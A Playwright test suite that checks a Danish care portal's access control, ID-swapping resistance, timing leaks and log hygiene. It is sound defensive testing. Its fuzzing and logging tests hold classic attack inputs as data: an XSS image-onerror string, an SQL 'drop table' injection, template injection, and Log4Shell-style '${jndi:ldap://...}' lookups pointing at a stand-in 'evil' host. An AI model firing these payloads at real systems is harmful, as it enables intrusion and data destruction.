import { expect, test } from '@playwright/test';
import fc from 'fast-check';
import { ask, openData, openPage, sendForm, withoutNonce, type Field } from './ask';
import { formsOf } from './forms';
import { addressOf, checkForm, checkPage, pathOf, straysOf, strayIn, type Finding, type Sent } from './matrix';
import { everyone, expected, membersOf, nobodies, table, type Person } from './routes';
import { digestOf, makeWorld, nobodysId, type World } from './world';

test.setTimeout(600_000);

/** How many made-up bodies each form is sent; `npm run proof` says ten thousand. */
const cases = Number(process.env['CASES'] ?? 8);
/** How long an answer may take, ms; in the suite the machine does other things besides. */
const slowest = process.env['CASES'] ? 1_000 : 5_000;

let world: World;
test.beforeAll(async () => {
	test.setTimeout(180_000);
	world = await makeWorld({ portal: 3360, provider: 3361 });
});
test.afterAll(async () => {
	await world.stop();
});

/** Does something for all, a few at a time: the portal has six connections for fagpersoner. What changes rows goes one by one. */
async function forAll<T>(all: readonly T[], work: (one: T) => Promise<Finding[]>, atOnce = 4): Promise<Finding[]> {
	const rest = [...all];
	const findings: Finding[] = [];
	const worker = async () => {
		for (let one = rest.shift(); one !== undefined; one = rest.shift()) findings.push(...(await work(one)));
	};
	await Promise.all(Array.from({ length: atOnce }, worker));
	return findings.sort();
}

const cells = <T>(things: readonly T[]) => everyone.flatMap((person) => things.map((thing) => ({ person, thing })));
const pages = Object.keys(table).filter((route) => table[route]?.page);
const forms = Object.entries(table).flatMap(([route, { actions = {} }]) =>
	Object.entries(actions).map(([action, rule]) => ({ route, action, rule }))
);
/** To log off is for everybody, and the persons here are still needed. */
const logsOff = (route: string, action: string) =>
	[
		'/login log-af',
		'/login forlad',
		'/indstillinger ud',
		'/indstillinger alle',
		'/ rolle',
		'/borgere/[id]/team logud'
	].includes(`${route} ${action}`);
const sendable = forms.filter(({ route, action }) => !logsOff(route, action));
const isLetIn = ({ rule }: (typeof forms)[number], person: Person) => membersOf(rule.to).includes(person);
const digests = async () => ({
	viktor: await digestOf(world, world.made.viktor.ids.borger),
	kasper: await digestOf(world, world.made.kasper.ids.borger)
});

test('A5 B1 B9 B10 every page, and its data, answers every person what the table says, and holds nobody else’s texts', async () => {
	expect(await forAll(cells(pages), ({ person, thing }) => checkPage(world, person, thing))).toEqual([]);
});

test('B1 every address that is no page answers every person what the table says', async () => {
	const methods = Object.entries(table).flatMap(([route, { methods = {} }]) =>
		Object.entries(methods).map(([method, rule]) => ({ route, method, rule }))
	);
	const findings = await forAll(cells(methods), async ({ person, thing: { route, method, rule } }) => {
		const answer = await askPlain({ person, method, path: addressOf(world, route) });
		const want = expected(rule, person);
		const wrong = answer.status === want ? [] : [`${person} ${method} ${route}: ${answer.status}, not ${want}`];
		return [...wrong, ...straysOf(world, { person, route }, answer)];
	});
	expect(findings).toEqual([]);
});

test('A5 B1 every form, sent with nothing in it, answers those it is not for what the table says, and changes nothing', async () => {
	const before = await digests();
	const refused = cells(sendable).filter(
		({ person, thing }) => thing.rule.to !== 'everyone' && !isLetIn(thing, person)
	);
	expect(await forAll(refused, ({ person, thing }) => sendEmpty(person, thing))).toEqual([]);
	expect(await digests()).toEqual(before);
});

const same = (one = '', other = '') => withoutNonce(one) === withoutNonce(other);

test('B3 what one may not see answers as what does not exist: the same status, the same page, the same length', async () => {
	const withIds = pages.filter((route) => route.includes('['));
	const findings = await forAll(cells(withIds), async ({ person, thing: route }) => {
		const rule = table[route]?.page;
		if (!rule || expected(rule, person) !== 404) return [];
		const path = addressOf(world, route);
		const unknown = path.replace(/[0-9a-f-]{36}/g, () => nobodysId());
		const both = await Promise.all([path, unknown].map((each) => openPage(world, person, each)));
		const data = await Promise.all([path, unknown].map((each) => openData(world, person, each)));
		const [one, other] = both.map(({ status, body }) => `${status} ${withoutNonce(body)}`);
		const isSame = one === other && both[0]?.body.length === both[1]?.body.length && same(data[0]?.body, data[1]?.body);
		if (isSame) return [];
		const at = [...(one ?? '')].findIndex((character, index) => character !== other?.[index]);
		return [`${person} ${route}: ${one?.slice(at - 40, at + 60)} / ${other?.slice(at - 40, at + 60)}`];
	});
	expect(findings).toEqual([]);
});

test('B3 of a borger whom one has nothing to do with one learns no more by the clock than of one who does not exist', async () => {
	const path = addressOf(world, '/borgere/[id]/plan');
	const took = { forbidden: [] as number[], unknown: [] as number[] };
	for (let round = 0; round < Math.min(500, cases * 15); round += 1)
		for (const which of ['forbidden', 'unknown'] as const) {
			const asked = which === 'forbidden' ? path : path.replace(/[0-9a-f-]{36}/, nobodysId());
			const started = performance.now();
			await openPage(world, 'outsider', asked);
			took[which].push(performance.now() - started);
		}
	const median = (all: number[]) => all.toSorted((one, other) => one - other)[Math.floor(all.length / 2)] ?? 0;
	const [forbidden, unknown] = [median(took.forbidden), median(took.unknown)];
	// 2 ms on a quiet machine; a busy one is as slow in both.
	expect(Math.abs(forbidden - unknown)).toBeLessThan(Math.max(2, unknown / 4));
});

/** Forms as they stand on the pages of those who are let in. */
async function recorded(): Promise<(Sent & { by: Person })[]> {
	const found: (Sent & { by: Person })[] = [];
	for (const route of pages) {
		const by = (['viktor', 'tovholder', 'fordeler', 'admin', 'dpo'] as const).find(
			(person) =>
				table[route]?.page && expected(table[route].page, person) === 200 && table[route].page.to !== 'everyone'
		);
		if (!by) continue;
		const path = addressOf(world, route);
		for (const { action, fields } of formsOf((await openPage(world, by, path)).body, path)) {
			const name = /\?\/([\w-]+)/.exec(action)?.[1] ?? 'default';
			const seen = found.filter((each) => each.route === route && each.action === name).length;
			if (table[route]?.actions?.[name] && !logsOff(route, name) && seen < 2)
				found.push({ by, route, action: name, path: action, fields });
		}
	}
	return found.sort((one, other) => Number(endsStory(one)) - Number(endsStory(other)));
}

/** What takes somebody's place on the team or ends the plan comes last: after it others would find nothing to do. */
const endsStory = ({ route, action }: Sent) =>
	/overdrag|samtykke|admin/.test(route) || (/\/team$|\/moeder\//.test(route) && /^(fjern|aflys|luk)$/.test(action));

test('B3 B6 every form of a page that somebody may open, sent by those who may not, does nothing', async () => {
	const all = await recorded();
	// The forms are real ones: most of the portal's stand on these pages.
	expect(new Set(all.map(({ route, action }) => `${route} ${action}`)).size).toBeGreaterThan(25);
	const before = await digests();
	const tries = all.flatMap((sent) =>
		everyone
			.filter((person) => !membersOf(table[sent.route]?.actions?.[sent.action]?.to ?? 'everyone').includes(person))
			.map((person) => ({ person, sent }))
	);
	const findings = await forAll(tries, ({ person, sent }) =>
		checkForm(world, person, sent, nobodies.includes(person) ? 401 : 404)
	);
	expect(findings).toEqual([]);
	expect(await digests()).toEqual(before);
});

/** The administrator keeps the accounts; the dpo compares the head of the log's chain with the one that was printed. */
const allowed: Partial<Record<Person, string[]>> = { admin: ['employeeId'], dpo: ['hash'] };

test('B8 no page sends a key that only the server may know, and a part of the rights sends no key that all of them do not', async () => {
	const findings = await forAll(cells(pages), async ({ person, thing: route }) => {
		const rule = table[route]?.page;
		if (!rule || expected(rule, person) !== 200) return [];
		const keys = keysOf((await openData(world, person, addressOf(world, route))).body);
		const known = allowed[person] ?? [];
		const secret = keys.filter(
			(key) => !known.includes(key) && /cpr|hash|token|secret|encrypt|password|issuer|employee/i.test(key)
		);
		if (person !== 'planOnly' || rule.to !== 'who sees the borger')
			return secret.map((key) => `${person} ${route}: ${key}`);
		const whole = keysOf((await openData(world, 'tovholder', addressOf(world, route))).body);
		const more = keys.filter((key) => !whole.includes(key));
		return [...secret, ...more].map((key) => `${person} ${route}: ${key}`);
	});
	expect(findings).toEqual([]);
});

/** Every name that stands for something in page data as Kit writes it: objects of names and places. */
function keysOf(data: string): string[] {
	const keys = new Set<string>();
	const walk = (value: unknown): void => {
		if (Array.isArray(value)) return value.forEach(walk);
		if (typeof value !== 'object' || value === null) return;
		for (const [key, inner] of Object.entries(value)) {
			keys.add(key);
			walk(inner);
		}
	};
	for (const line of data.split('\n').filter(Boolean)) walk(JSON.parse(line));
	return [...keys];
}

test('B1 every form, sent with nothing in it, answers those it is for what the table says', async () => {
	const tried = cells(sendable).filter(({ person, thing }) => isLetIn(thing, person));
	expect(await forAll(tried, ({ person, thing }) => sendEmpty(person, thing), 1)).toEqual([]);
});

/** A text with every id of Viktor's in it replaced by Kasper's of the same thing. */
const asKaspers = (text: string) =>
	Object.entries(world.made.viktor.ids).reduce(
		(all, [name, id]) => all.replaceAll(id, world.made.kasper.ids[name as keyof World['made']['kasper']['ids']]),
		text
	);

test('B3 B7 with the ids of another borger in the address, in the fields or in both, nothing of that borger changes', async () => {
	const all = (await recorded()).filter(({ by }) => by === 'viktor' || by === 'tovholder');
	const before = (await digests()).kasper;
	const extra: Field[] = [
		['borgerId', world.made.kasper.ids.borger],
		['borger_id', world.made.kasper.ids.borger],
		['accountId', world.made.kasper.ids.konto],
		['raterKind', 'fagperson'],
		['role', 'leder']
	];
	const swap = (fields: Field[]): Field[] => fields.map(([name, value]) => [name, asKaspers(value)]);
	const tries = all.flatMap((sent) => [
		...(endsStory(sent) ? [] : [{ ...sent, fields: swap(sent.fields) }]),
		{ ...sent, path: asKaspers(sent.path) },
		{ ...sent, path: asKaspers(sent.path), fields: [...swap(sent.fields), ...extra] }
	]);
	expect(await forAll(tries, (sent) => checkForm(world, sent.by, sent), 1)).toEqual([]);
	expect((await digests()).kasper).toEqual(before);
});

test('D2 D3 D8 whatever is written into a form of those it is for: no error of ours, no text of others, no answer that takes a second', async () => {
	const all = await recorded();
	const nasty = fc.oneof(
		fc.constantFrom(
			'',
			'\u0000',
			'\ud800',
			'\u202e',
			'\u200b',
			'<img src=x onerror=alert(1)>',
			'{{7*7}}',
			"'; drop table plan; --",
			'${jndi:ldap://x}',
			'%00',
			'2026-02-30',
			'0000-00-00',
			'9999-12-31',
			'24:00',
			'1e309',
			'NaN',
			'-1',
			'٣',
			'9007199254740993',
			'[]',
			'null',
			world.made.kasper.ids.borger,
			world.made.kasper.ids.maaling,
			world.made.viktor.ids.maal
		),
		fc.string({ unit: 'binary', maxLength: 60 }),
		fc.constant('å'.repeat(20_000))
	);
	const before = (await digests()).kasper;
	const through = new Set<string>();
	const attack = async (sent: (typeof all)[number]) => {
		if ((await sendForm(world, sent.by, sent)).status === 303) through.add(`${sent.route} ${sent.action}`);
		const bodies = fc.sample(
			fc.array(fc.tuple(fc.integer({ min: 0, max: 30 }), nasty), { minLength: 1, maxLength: 4 }),
			{
				seed: 5,
				numRuns: cases
			}
		);
		const found: Finding[] = [];
		for (const [index, changes] of bodies.entries()) {
			const fields = sent.fields.map(([name, value]): Field => [name, value]);
			for (const [place, text] of changes) {
				const field = fields[place % Math.max(1, fields.length)];
				if (field) field[1] = text;
			}
			const started = performance.now();
			const wrong = await checkForm(world, sent.by, { ...sent, fields, byScript: index % 5 !== 0 });
			const took = performance.now() - started;
			if (wrong.length) found.push(...wrong.map((each) => `${each} ${JSON.stringify(changes).slice(0, 120)}`));
			if (took > slowest) found.push(`${sent.by} ${sent.route} ${sent.action}: ${took.toFixed(0)} ms`);
		}
		return found;
	};
	expect(
		await forAll(
			all.filter((sent) => !endsStory(sent)),
			attack
		)
	).toEqual([]);
	// Among these are those that give a samtykke, after which more may be read than before.
	const late = await forAll(all.filter(endsStory), attack, 1);
	expect(late.filter((each) => !each.includes('-viktor-helbred-'))).toEqual([]);
	// As they stood on the page they did what they are for: what was refused above was refused for who sent it.
	expect([...through].length, [...through].join(', ')).toBeGreaterThan(30);
	expect((await digests()).kasper).toEqual(before);
});

test('D4 of a field that is there twice the first counts, in a form; in JSON it is the last', async () => {
	const page = (await openPage(world, 'viktor', '/plan')).body;
	const wish = formsOf(page, '/plan').find(({ action }) => action.endsWith('?/oenske'));
	const fields = wish?.fields.filter(([name]) => name !== 'tekst') ?? [];
	fields.push(['tekst', 'KANARIE-viktor-plan-foerst'], ['tekst', 'KANARIE-viktor-plan-sidst']);
	expect((await sendForm(world, 'viktor', { path: '/plan?/oenske', fields })).status).toBe(303);
	const wishes = await world.superuser<{ text: string }[]>`
		select text from wish where borger_id = ${world.made.viktor.ids.borger}`;
	expect(wishes.map(({ text }) => text)).toContain('KANARIE-viktor-plan-foerst');
	expect(wishes.map(({ text }) => text)).not.toContain('KANARIE-viktor-plan-sidst');
});

test('E3 whatever stands in the headers and the address, each event of the log is one line of JSON and says nothing of it', async () => {
	const evil = ['${jndi:ldap://evil}', 'rødt æble', 'KANARIE-viktor-plan-hoved', 'x'.repeat(9_000)];
	for (const each of evil) {
		const headers = {
			'user-agent': Buffer.from(each).toString('latin1'),
			referer: `https://evil.example/${encodeURIComponent(each)}`
		};
		await ask(world.origin, { path: `/findes-ikke/${encodeURIComponent(each)}`, cookie: null, headers });
		await ask(world.origin, { method: 'POST', path: `/lineal?a=${encodeURIComponent(each)}`, cookie: null, headers });
	}
	const huge = await ask(world.origin, {
		path: '/om',
		cookie: null,
		headers: { 'user-agent': 'x'.repeat(1_000_000) }
	}).catch(() => ({ status: 431 }));
	expect(huge.status).toBe(431);
	expect(world.logs()).not.toMatch(/jndi|rød|evil\.example|xxxxxxxx/);
	await expect.poll(world.logs).toContain('request_refused');
});

test('E5 neither the log of the portal nor that of PostgreSQL holds a text that anybody wrote, a name, a CPR number or a token', async () => {
	const logs = world.logs();
	expect(logs.length).toBeGreaterThan(100);
	expect(strayIn(logs, 'leder')).toEqual([]);
	for (const story of ['viktor', 'kasper'] as const) expect(logs).not.toContain(world.made[story].borger.cpr);
	for (const token of world.tokens) expect(logs.includes(token), 'a token').toBe(false);
	expect(logs).not.toMatch(/Skrevet af en prøve|drop table plan/);
	for (const line of logs.split('\n').filter((each) => each.startsWith('{')))
		expect(() => JSON.parse(line)).not.toThrow();
});

const sendEmpty = (person: Person, { route, action, rule }: (typeof forms)[number]) =>
	checkForm(world, person, { route, action, path: pathOf(world, route, action), fields: [] }, expected(rule, person));

async function askPlain({ person, method, path }: { person: Person; method: string; path: string }) {
	const isApi = path.startsWith('/api/');
	const type = isApi ? 'application/json' : 'application/x-www-form-urlencoded';
	const asked = { method, path, cookie: world.cookies[person] };
	if (method === 'GET') return ask(world.origin, asked);
	const headers = { origin: world.origin, 'content-type': type };
	return ask(world.origin, { ...asked, headers, body: isApi ? '{}' : 'a=1' });
}
